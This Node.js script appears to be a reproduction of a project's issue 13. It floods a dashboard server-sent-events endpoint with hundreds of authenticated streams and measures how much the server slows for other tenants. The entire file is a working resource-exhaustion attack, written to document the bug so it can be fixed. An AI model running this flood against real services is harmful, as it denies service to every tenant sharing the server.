// Attack on issue 13 (dashboard SSE): /dashboard/events has no per-workspace or per-ticket cap on open
// streams, and each stream re-computes the workspace's door snapshot every 100 ms. One tenant's key
// opening N streams costs the server N*10 snapshots a second; every other tenant's API calls slow down.
// Usage: node scripts/attack-repro-13/sse-stream-flood.mjs http://127.0.0.1:PORT <api key> [streams=400]
import http from 'node:http';
const [base, key, n = '400'] = process.argv.slice(2);
const agent = new http.Agent({ keepAlive: true, maxSockets: Infinity });
async function latency(rounds = 20) {
  const t = [];
  for (let i = 0; i < rounds; i++) {
    const s = performance.now();
    const r = await fetch(`${base}/workspaces/get`, { method: 'POST', headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' }, body: '{}' });
    await r.text();
    t.push(performance.now() - s);
  }
  t.sort((a, b) => a - b);
  return { p50: +t[t.length >> 1].toFixed(1), max: +t[t.length - 1].toFixed(1) };
}
const before = await latency();
const reqs = [];
let open = 0;
for (let i = 0; i < Number(n); i++) {
  const req = http.get(`${base}/dashboard/events`, { agent, headers: { authorization: `Bearer ${key}` } }, (res) => { if (res.statusCode === 200) open++; res.resume(); });
  req.on('error', () => {});
  reqs.push(req);
}
await new Promise((r) => setTimeout(r, 3000));
const during = await latency();
console.log(JSON.stringify({ streamsOpen: open, before, during }));
for (const r of reqs) r.destroy();
agent.destroy();
